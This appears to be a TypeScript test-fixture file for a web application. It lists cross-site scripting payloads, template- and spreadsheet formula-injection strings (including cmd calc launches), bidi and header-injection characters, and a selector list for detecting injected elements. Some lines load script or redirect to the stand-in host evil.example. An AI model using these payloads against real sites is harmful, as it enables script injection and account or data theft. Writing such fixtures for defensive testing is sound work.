// Texts that would be programs, tags, messages or formulas if anything took them for more than texts.

/** Texts that begin an element, end an attribute or a script, name one, or are read again by a template or a spreadsheet. */
export const PAYLOADS: readonly string[] = [
  // Elements.
  `<script>alert(1)</script>`,
  `<ScRiPt>alert(1)</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<script>alert\`1\`</script>`,
  `<img src=x onerror=alert(1)>`,
  `<img/src=x/onerror=alert(1)//`,
  `<IMG """><SCRIPT>alert(1)</SCRIPT>">`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x>`,
  `<svg/onload="alert(1)"`,
  `<math><mtext><script>alert(1)</script>`,
  `<body onload=alert(1)>`,
  `<iframe src=javascript:alert(1)></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>">`,
  `<object data=javascript:alert(1)>`,
  `<embed src=javascript:alert(1)>`,
  `<details open ontoggle=alert(1)>x`,
  `<input autofocus onfocus=alert(1)>`,
  `<video><source onerror=alert(1)>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content=0;//evil.example>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>*{display:none}</style>`,
  `<form action=//evil.example><button>x</button>`,
  `<a href=javascript:alert(1)>x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<template><script>alert(1)</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  // Out of an attribute, a title, a text field, a comment.
  `" onmouseover=alert(1) x="`,
  `' onfocus=alert(1) autofocus x='`,
  `"><img src=x onerror=alert(1)>`,
  `'><svg onload=alert(1)>`,
  `" autofocus onfocus="alert(1)`,
  `\` onclick=alert(1)`,
  `"/><script>alert(1)</script>`,
  `</title><script>alert(1)</script>`,
  `</textarea><script>alert(1)</script>`,
  `</option></select><img src=x onerror=alert(1)>`,
  `--><script>alert(1)</script><!--`,
  `<!--<script>alert(1)//-->`,
  `]]><script>alert(1)</script>`,
  // Out of a script, and of what a page carries for its client.
  `</script><script>alert(1)</script>`,
  `</ScRiPt ><img src=x onerror=alert(1)>`,
  `<!--<script>`,
  `";alert(1);//`,
  `';alert(1);'`,
  `\\";alert(1);//`,
  `\${alert(1)}`,
  `\\u003cscript\\u003ealert(1)\\u003c/script\\u003e`,
  `__RESOLVED_RESOURCES[0]="x"`,
  `{"status":200,"__proto__":{"x":1}}`,
  // Written in another way.
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&#60;img src=x onerror=alert(1)&#62;`,
  `%3Cscript%3Ealert(1)%3C/script%3E`,
  `\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}`,
  `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
  // Addresses.
  `javascript:alert(1)`,
  `JaVaScRiPt://%0aalert(1)`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `//evil.example/x`,
  // Messages and templates.
  `{ $x }`,
  `{ -brand-name }`,
  `{ "{" }{ NUMBER(1) }`,
  `{{7*7}}`,
  `{{constructor.constructor('alert(1)')()}}`,
  `<%= 7*7 %>`,
  `#{7*7}`,
  `*[other] x`,
  // Formulas, and letters that join, hide or stand above others.
  `=HYPERLINK("//evil.example","x")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `Z\u{335}\u{321}\u{353}a\u{336}lgo`,
  `a\u{200b}b\u{200d}c\u{feff}d`,
];

/** Texts that turn the direction of the rest, or end a line: no name holds them, but an address may. */
export const TURNING: readonly string[] = ["\u{202e}gpj.exe", "\u{2066}abc\u{2069}", "a\r\nSet-Cookie: x=1", "\0<script>alert(1)</script>"];

/** What no page of ours has: an element or an attribute that somebody has brought in. */
export const BROUGHT_IN = [
  "[onerror]", "[onload]", "[onfocus]", "[onclick]", "[onmouseover]", "[ontoggle]", "[onbegin]", "[onstart]",
  "iframe", "object", "embed", "base", "math", "marquee", "template", "style", "svg script", "svg animate", "video",
  "[src*='evil']", "[href*='evil.example']:not([href^='/']):not([href^='?'])", "[action*='evil']", "[href^='javascript' i]",
  "[href^='data:' i]", "meta[http-equiv=refresh]",
].join(", ");
